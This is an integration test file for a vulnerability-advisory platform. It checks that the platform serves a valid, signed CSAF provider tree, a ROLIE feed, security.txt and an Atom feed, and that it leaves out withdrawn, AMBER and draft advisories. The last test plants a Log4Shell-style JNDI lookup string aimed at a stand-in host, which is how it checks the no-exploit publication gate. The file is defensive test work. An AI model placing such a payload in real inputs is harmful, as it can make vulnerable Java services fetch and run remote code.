// The CSAF provider tree (CSAF 2.0 section 7) the server builds from its
// store, fetched whole the way an aggregator would: provider-metadata.json
// -> its ROLIE feed and directory -> every document with its hashes, each
// validated against the official schemas (tests/integration/exports.test.mjs
// has the validators' tests), and its OpenPGP signature verified with gpg
// (role csaf_trusted_provider); the portal's Atom feed; `loudong export
// csaf|cve5|osv REF-or-ID` on the same data directory. Withdrawn, TLP:AMBER
// and unpublished advisories appear nowhere; a published text that the
// no-exploit gate refuses today is refused on the way out.
import { describe, it, before } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { REPO, cli, onPostgres, sharedServer, sqlite } from './lib/server.mjs';
import { createOrg, createProduct, fixedCaseWithAdvisory, publishAdvisory, signedInUser, uniq } from './lib/fixtures.mjs';
import { csafValidators, explain } from './lib/csaf_schemas.mjs';

const PUBLIC = 'https://psirt.example.cn';
const ROOT = `${PUBLIC}/.well-known/csaf`;
const ORG_ID = '8254265b-2729-46b6-b9e3-3dfca2d5bfca';
const ENV = { LOUDONG_NOTIFY_PUBLIC_URL: PUBLIC, LOUDONG_PLATFORM_CNA_ORG_ID: ORG_ID };

const sha = (alg, text) => createHash(alg).update(text, 'utf8').digest('hex');

describe('CSAF provider tree and Atom feed served from the store', () => {
  let server, admin, anon;
  sharedServer((s) => ({ server, admin, anon } = s), { env: ENV });
  const { csaf, provider } = csafValidators();
  // A public URL of the tree, fetched from this server.
  const fetchUrl = (url) => {
    assert.ok(url.startsWith(PUBLIC + '/'), `${url} is under the public base URL`);
    return anon.get(url.slice(PUBLIC.length));
  };
  const docPath = (ref) => `${new Date().getUTCFullYear()}/${ref.toLowerCase()}.json`;
  const refs = {};

  const fixedCase = (product, externalIds) => fixedCaseWithAdvisory(admin, anon, product, externalIds);

  before(async () => {
    const org = await createOrg(admin, { name: uniq('Acme Networks ') });
    const product = await createProduct(admin, org.id, { name: uniq('Acme Router '), model: 'AR-1', purls: ['pkg:npm/acme-router'] });
    const approver = await signedInUser(server, admin, [{ org_id: org.id, role: 'admin' }]);
    const publish = async (c, patch) => {
      const r = await publishAdvisory({ publisher: admin, approver, caseId: c.caseId, patch });
      assert.equal(r.status, 200, r.text);
    };
    const npm = {
      en: { solution: 'Upgrade to 1.4.2.' },
      affected: [{ vendor: org.name, name: 'acme-router', purl: 'pkg:npm/acme-router', range: 'vers:npm/<1.4.2', fixed_version: '1.4.2' }],
    };
    refs.cve = await fixedCase(product, ['CVE-2026-40002']);
    await publish(refs.cve, npm);
    const camera = await createProduct(admin, org.id, { name: uniq('Acme Camera '), model: 'C-2' });
    refs.plain = await fixedCase(camera);
    await publish(refs.plain, { zh: { title: '管理页面路径遍历 <b> & 引号"', solution: '升级到 1.4.2。' }, en: { solution: 'Upgrade the camera firmware.' } });
    refs.amber = await fixedCase(product);
    await publish(refs.amber, { en: { solution: 'Upgrade.' }, tlp: 'AMBER' });
    refs.withdrawn = await fixedCase(product);
    await publish(refs.withdrawn, { en: { solution: 'Upgrade.' } });
    const w = await admin.post(`/api/v1/cases/${refs.withdrawn.caseId}/advisory/transition`, { to: 'withdrawn', reason: 'duplicate' });
    assert.equal(w.status, 200, w.text);
    refs.draft = await fixedCase(product);
  });

  it('provider-metadata.json: valid, at the well-known URL, pointing at the feed and the directory', async () => {
    const r = await anon.get('/.well-known/csaf/provider-metadata.json');
    assert.equal(r.status, 200, r.text);
    assert.match(r.headers.get('content-type'), /^application\/json/);
    assert.ok(provider(r.json), explain(provider));
    assert.equal(r.json.canonical_url, `${ROOT}/provider-metadata.json`);
    assert.equal(r.json.role, 'csaf_trusted_provider', 'hashed and signed (requirements 18 to 20)');
    const [key, ...more] = r.json.public_openpgp_keys;
    assert.deepEqual(more, []);
    assert.match(key.fingerprint, /^[0-9A-F]{40}$/);
    assert.equal(key.url, `${ROOT}/openpgp/${key.fingerprint}.asc`);
    assert.deepEqual(r.json.distributions, [
      { directory_url: `${ROOT}/clear` },
      { rolie: { feeds: [{ summary: r.json.distributions[1].rolie.feeds[0].summary, tlp_label: 'WHITE', url: `${ROOT}/feed-tlp-white.json` }] } },
    ]);
    assert.equal(r.json.publisher.namespace, PUBLIC);
  });

  it('the whole tree: every document valid, its hashes right, the lists agree; AMBER, withdrawn and drafts absent', async () => {
    const meta = (await anon.get('/.well-known/csaf/provider-metadata.json')).json;
    const feedRes = await fetchUrl(meta.distributions[1].rolie.feeds[0].url);
    assert.equal(feedRes.status, 200, feedRes.text);
    assert.match(feedRes.headers.get('content-type'), /^application\/json/);
    const entries = feedRes.json.feed.entry;
    assert.deepEqual(entries.map((e) => e.id).sort(), [refs.cve.ref, refs.plain.ref].sort());
    const dir = meta.distributions[0].directory_url;
    const index = await fetchUrl(`${dir}/index.txt`);
    assert.equal(index.status, 200);
    assert.match(index.headers.get('content-type'), /^text\/plain/);
    const changes = await fetchUrl(`${dir}/changes.csv`);
    assert.equal(changes.status, 200);
    assert.match(changes.headers.get('content-type'), /^text\/csv/);
    const listed = index.text.trim().split('\n');
    assert.deepEqual(listed.slice().sort(), [docPath(refs.cve.ref), docPath(refs.plain.ref)].sort());
    const changed = changes.text.trim().split('\n').map((l) => /^"([^"]+)","([^"]+)"$/.exec(l));
    assert.deepEqual(changed.map((m) => m[1]), listed, 'changes.csv lists what index.txt lists, newest first');

    for (const e of entries) {
      const self = e.link.find((l) => l.rel === 'self').href;
      assert.equal(self, e.content.src);
      assert.ok(listed.includes(self.slice(dir.length + 1)), `${self} is in index.txt`);
      const doc = await fetchUrl(self);
      assert.equal(doc.status, 200, doc.text);
      assert.match(doc.headers.get('content-type'), /^application\/json/);
      assert.ok(csaf(doc.json), explain(csaf));
      assert.equal(doc.json.document.tracking.id, e.id);
      assert.equal(doc.json.document.tracking.status, 'final');
      assert.equal(doc.json.document.distribution.tlp.label, 'WHITE');
      assert.ok(doc.json.document.references.some((x) => x.category === 'self' && x.url === self));
      const name = self.slice(self.lastIndexOf('/') + 1);
      assert.deepEqual(e.link.filter((l) => l.rel === 'signature').map((l) => l.href), [`${self}.asc`]);
      for (const alg of ['sha256', 'sha512']) {
        const href = e.link.find((l) => l.rel === 'hash' && l.href.endsWith(`.${alg}`)).href;
        const h = await fetchUrl(href);
        assert.equal(h.status, 200, h.text);
        assert.equal(h.text, `${sha(alg, doc.text)}  ${name}\n`, `${alg} of ${name}`);
      }
      // The served export of the same revision is the same document.
      const served = await anon.get(`/api/v1/public/advisories/${encodeURIComponent(e.id)}/csaf`);
      assert.deepEqual(served.json, doc.json);
    }
    for (const gone of [refs.amber, refs.withdrawn, refs.draft]) {
      assert.ok(!feedRes.text.includes(gone.ref), `${gone.ref} not in the feed`);
      assert.ok(!index.text.includes(gone.ref.toLowerCase()) && !changes.text.includes(gone.ref.toLowerCase()));
      for (const suffix of ['', '.sha256', '.sha512', '.asc'])
        assert.equal((await anon.get(`/.well-known/csaf/clear/${docPath(gone.ref)}${suffix}`)).status, 404, gone.ref + suffix);
    }
    assert.equal((await anon.get('/.well-known/csaf/clear/2026/nothing.json')).status, 404);
    assert.equal((await anon.get('/.well-known/csaf/clear/secret.txt')).status, 404);
  });

  // CSAF 2.0 requirements 19 and 20, checked the way a consumer would:
  // the real gpg, a throwaway keyring, the served bytes as they came.
  it('OpenPGP: gpg imports the listed key and verifies every document\'s .asc; a changed byte fails', async () => {
    const home = mkdtempSync(path.join(tmpdir(), 'loudong-gpg-'));
    try {
      const gpg = (...args) => spawnSync('gpg', ['--batch', '--no-autostart', '--status-fd', '1', ...args],
        { env: { ...process.env, GNUPGHOME: home }, encoding: 'utf8' });
      const bytes = async (url) => {
        const res = await fetch(server.url + url.slice(PUBLIC.length));
        assert.equal(res.status, 200, url);
        return { buf: Buffer.from(await res.arrayBuffer()), type: res.headers.get('content-type'), etag: res.headers.get('etag') };
      };
      const meta = (await anon.get('/.well-known/csaf/provider-metadata.json')).json;
      const [{ fingerprint, url }] = meta.public_openpgp_keys;
      const key = await bytes(url);
      assert.equal(key.type, 'application/pgp-keys');
      assert.match(key.buf.toString(), /^-----BEGIN PGP PUBLIC KEY BLOCK-----\n\n[^]+\n=[A-Za-z0-9+/]{4}\n-----END PGP PUBLIC KEY BLOCK-----\n$/);
      assert.ok(!/PRIVATE/.test(key.buf.toString()));
      writeFileSync(path.join(home, 'key.asc'), key.buf);
      const imported = gpg('--import', path.join(home, 'key.asc'));
      assert.equal(imported.status, 0, imported.stderr);
      assert.match(imported.stdout, new RegExp(`IMPORT_OK \\d+ ${fingerprint}`));
      const listed = gpg('--with-colons', '--fixed-list-mode', '--list-keys');
      assert.equal(listed.status, 0, listed.stderr);
      assert.match(listed.stdout, new RegExp(`^pub:-:255:22:${fingerprint.slice(24)}:`, 'm'), 'one ed25519 key (algorithm 22)');
      assert.match(listed.stdout, new RegExp(`^fpr:+${fingerprint}:`, 'm'));
      assert.match(listed.stdout, /^uid:-:+\d+::[0-9A-F]+::[^:]* CSAF <[^>]+@[^>]+>:/m);
      assert.equal((await anon.get(`/.well-known/csaf/openpgp/${fingerprint.toLowerCase()}.asc`)).status, 404);
      assert.equal((await anon.get(`/.well-known/csaf/openpgp/${'0'.repeat(40)}.asc`)).status, 404);

      const verify = async (docUrl, sigUrl) => {
        const doc = await bytes(docUrl), sig = await bytes(sigUrl);
        assert.equal(sig.type, 'application/pgp-signature');
        const file = path.join(home, 'file'), asc = path.join(home, 'file.asc');
        writeFileSync(file, doc.buf);
        writeFileSync(asc, sig.buf);
        const good = gpg('--verify', asc, file);
        assert.equal(good.status, 0, `${sigUrl}: ${good.stderr}`);
        assert.match(good.stdout, new RegExp(`^\\[GNUPG:\\] VALIDSIG ${fingerprint} `, 'm'), sigUrl);
        // One changed byte, and gpg says BAD.
        const changed = Buffer.from(doc.buf);
        changed[Math.floor(changed.length / 2)] ^= 0x01;
        writeFileSync(file, changed);
        const bad = gpg('--verify', asc, file);
        assert.notEqual(bad.status, 0, `${sigUrl} verified a changed file`);
        assert.match(bad.stdout, /^\[GNUPG:\] BADSIG /m);
        return sig;
      };
      const feed = (await fetchUrl(meta.distributions[1].rolie.feeds[0].url)).json;
      assert.equal(feed.feed.entry.length, 2);
      for (const e of feed.feed.entry) {
        const self = e.link.find((l) => l.rel === 'self').href;
        const sig = await verify(self, e.link.find((l) => l.rel === 'signature').href);
        // The same bytes each time: the ETag holds, and a conditional GET answers 304.
        const sigPath = `${self.slice(PUBLIC.length)}.asc`;
        const again = await anon.get(sigPath, { headers: { 'If-None-Match': sig.etag } });
        assert.equal(again.status, 304);
        assert.equal((await anon.get(sigPath)).headers.get('etag'), sig.etag);
      }
      await verify(`${ROOT}/provider-metadata.json`, `${ROOT}/provider-metadata.json.asc`);
    } finally {
      rmSync(home, { recursive: true, force: true });
    }
  });

  it('security.txt names the report form, the rules and the provider metadata (RFC 9116, CSAF requirement 8)', async () => {
    const r = await anon.get('/.well-known/security.txt');
    assert.equal(r.status, 200, r.text);
    assert.match(r.headers.get('content-type'), /^text\/plain/);
    const fields = r.text.split('\n').filter((l) => l && !l.startsWith('#')).map((l) => l.split(': '));
    const get = (name) => fields.filter(([k]) => k === name).map(([, v]) => v);
    assert.deepEqual(get('Contact')[0], `${PUBLIC}/submit`);
    assert.deepEqual(get('Canonical'), [`${PUBLIC}/.well-known/security.txt`]);
    assert.deepEqual(get('Policy'), [`${PUBLIC}/rules`]);
    const expires = Date.parse(get('Expires')[0]);
    assert.ok(expires > Date.now() + 170 * 86400_000 && expires < Date.now() + 366 * 86400_000, get('Expires')[0]);
    // The CSAF line leads an aggregator to the provider metadata, which is there.
    const [csaf] = get('CSAF');
    assert.equal(csaf, `${ROOT}/provider-metadata.json`);
    assert.equal((await fetchUrl(csaf)).status, 200);
    const again = await anon.get('/.well-known/security.txt', { headers: { 'If-None-Match': r.headers.get('etag') } });
    assert.equal(again.status, 304, 'the same all day');
  });

  it('ETag and Last-Modified: a conditional GET answers 304', async () => {
    const r = await anon.get('/.well-known/csaf/clear/index.txt');
    const etag = r.headers.get('etag');
    assert.match(etag, /^"[0-9a-f]{32}"$/);
    assert.match(r.headers.get('last-modified'), /^[A-Z][a-z]{2}, \d{2} [A-Z][a-z]{2} \d{4} \d{2}:\d{2}:\d{2} GMT$/);
    assert.ok(Date.now() - Date.parse(r.headers.get('last-modified')) < 3600_000, 'the newest publication');
    const again = await anon.get('/.well-known/csaf/clear/index.txt', { headers: { 'If-None-Match': etag } });
    assert.equal(again.status, 304);
    assert.equal(again.text, '');
    const other = await anon.get('/.well-known/csaf/clear/index.txt', { headers: { 'If-None-Match': '"0"' } });
    assert.equal(other.status, 200);
  });

  it('the Atom feed parses and lists the public advisories only, escaped', async () => {
    const r = await anon.get('/api/v1/public/advisories.atom');
    assert.equal(r.status, 200, r.text);
    assert.match(r.headers.get('content-type'), /^application\/atom\+xml/);
    const lint = (...args) => spawnSync('xmllint', args, { input: r.text, encoding: 'utf8' });
    const parsed = lint('--noout', '-');
    assert.equal(parsed.status, 0, `xmllint: ${parsed.stderr}`);
    const ids = lint('--xpath', "//*[local-name()='entry']/*[local-name()='id']/text()", '-');
    assert.equal(ids.status, 0, ids.stderr);
    assert.deepEqual(ids.stdout.trim().split('\n').sort(),
      [refs.cve.ref, refs.plain.ref].map((x) => `urn:loudong:advisory:${x}`).sort());
    const self = lint('--xpath', "string(/*[local-name()='feed']/*[local-name()='link'][@rel='self']/@href)", '-');
    assert.equal(self.stdout.trim(), `${PUBLIC}/api/v1/public/advisories.atom`);
    assert.match(r.text, /管理页面路径遍历 &lt;b&gt; &amp; 引号&quot;/);
    assert.match(r.text, new RegExp(`href="${ROOT}/clear/${docPath(refs.cve.ref)}"`));
    assert.ok(!r.text.includes(refs.amber.ref) && !r.text.includes(refs.withdrawn.ref));
  });

  describe('loudong export csaf|cve5|osv REF-or-ID (the data directory)', () => {
    const exp = (args) => cli(['export', ...args, '--data', server.dataDir], { env: ENV });
    const refused = (args, pattern) => {
      const r = exp(args);
      assert.equal(r.status, 2, `exit ${r.status}\nstdout: ${r.stdout}\nstderr: ${r.stderr}`);
      assert.equal(r.stdout, '');
      assert.match(r.stderr, pattern);
    };

    it('by reference and by case id: the documents the server serves', async () => {
      for (const f of ['csaf', 'cve5', 'osv']) {
        const served = await anon.get(`/api/v1/public/advisories/${refs.cve.ref}/${f}`);
        assert.equal(served.status, 200, served.text);
        for (const key of [refs.cve.ref, String(refs.cve.caseId)]) {
          const r = exp([f, key]);
          assert.equal(r.status, 0, `${f} ${key}: ${r.stderr}`);
          assert.deepEqual(r.json, served.json, `${f} ${key}`);
        }
      }
      const r = exp(['csaf', refs.plain.ref]);
      assert.equal(r.status, 0, r.stderr);
      assert.ok(csaf(r.json), explain(csaf));
    });

    it('says why an advisory is not exported, exit 2', () => {
      refused(['csaf', 'LD-SA-1999-999999'], /advisory LD-SA-1999-999999 not found/);
      refused(['csaf', '999999'], /advisory of case 999999/);
      refused(['csaf', refs.draft.ref], /is not published \(state draft\)/);
      refused(['osv', String(refs.draft.caseId)], /is not published/);
      refused(['csaf', refs.amber.ref], /is TLP:AMBER; only TLP:CLEAR/);
      refused(['cve5', refs.withdrawn.ref], /was withdrawn/);
      refused(['cve5', refs.plain.ref], /no CVE id/);
      refused(['osv', refs.plain.ref], /package URL/);
      refused(['csaf'], /name the advisory/);
    });

    it('--advisory FILE and a stored advisory together are a usage error', () => {
      const r = exp(['csaf', refs.cve.ref, '--advisory', path.join(REPO, 'tests/data/formats/advisories/npm-en.json')]);
      assert.equal(r.status, 2);
      assert.match(r.stderr, /excludes/);
    });
  });

  // Last: it changes a published revision in the database (past the trigger
  // that keeps revisions unchanged), as if the heuristic had learnt a
  // pattern since it was published.
  it('a published text the no-exploit gate refuses now: its document answers 409, the lists leave it out', async () => {
    sqlite(server.db, `DROP TRIGGER advisory_revisions_no_update${onPostgres ? ' ON advisory_revisions' : ''}`);
    sqlite(server.db, "UPDATE advisory_revisions SET snapshot = replace(snapshot, 'Upgrade to 1.4.2.', " +
      "'Upgrade to 1.4.2; check with ${jndi:ldap://x.example/a}') WHERE snapshot LIKE '%" + refs.cve.ref + "%'");
    const r = await anon.get(`/.well-known/csaf/clear/${docPath(refs.cve.ref)}`);
    assert.equal(r.status, 409, r.text);
    assert.equal(r.json.error.code, 'publication_refused');
    assert.deepEqual(r.json.error.details.allowed, ['no_exploit']);
    assert.equal((await anon.get(`/.well-known/csaf/clear/${docPath(refs.cve.ref)}.sha256`)).status, 409);
    for (const p of ['/.well-known/csaf/clear/index.txt', '/.well-known/csaf/feed-tlp-white.json', '/api/v1/public/advisories.atom'])
    {
      const text = (await anon.get(p)).text;
      assert.ok(!text.includes(refs.cve.ref) && !text.includes(refs.cve.ref.toLowerCase()), p);
    }
    const c = cli(['export', 'csaf', refs.cve.ref, '--data', server.dataDir], { env: ENV });
    assert.equal(c.status, 2);
    assert.match(c.stderr, /no_exploit/);
  });
});
